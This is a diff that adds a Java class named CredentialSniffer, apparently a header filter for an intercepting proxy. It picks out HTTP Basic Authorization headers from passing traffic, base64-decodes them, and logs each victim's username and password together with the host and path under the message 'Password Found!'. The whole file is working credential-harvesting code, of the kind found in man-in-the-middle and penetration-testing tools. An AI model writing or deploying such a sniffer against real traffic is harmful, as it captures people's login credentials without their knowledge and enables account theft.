@@ -0,0 +1,40 @@
+import java.nio.charset.StandardCharsets;
+import java.util.Arrays;
+import java.util.Base64;
+
+// Reports the user:password of HTTP Basic Authorization headers passing through the proxy.
+// On the connection thread it only finds the header and copies the encoded value, the Host and the target;
+// decoding and logging happen on the inspection worker.
+public class CredentialSniffer implements HeaderFilter {
+    private static final String BASIC = "Basic ";
+
+    private final AccessLog log;
+
+    public CredentialSniffer(AccessLog log) {
+        this.log = log;
+    }
+
+    public void inspect(HttpHead request, HeaderFilterChain chain) {
+        int h = request.indexOf("Authorization");
+        if (h < 0 || !request.valueStartsWith(h, BASIC)) {
+            return;
+        }
+        int start = request.value_start[h] + BASIC.length();
+        while (start < request.value_end[h] && request.raw[start] == ' ') start++;
+        byte[] encoded = Arrays.copyOfRange(request.raw, start, request.value_end[h]);
+        int host = request.indexOf("Host");
+        String authority = host < 0 ? "" : request.value(host);
+        String target = request.target();
+        chain.offload(() -> report(encoded, authority, target));
+    }
+
+    private void report(byte[] encoded, String authority, String target) {
+        try {
+            byte[] credDecoded = Base64.getDecoder().decode(encoded);
+            log.message("Password Found! http://" + new String(credDecoded, StandardCharsets.UTF_8) +
+                    "@" + authority + target);
+        } catch (IllegalArgumentException e) {
+            // not valid base64, nothing to report
+        }
+    }
+}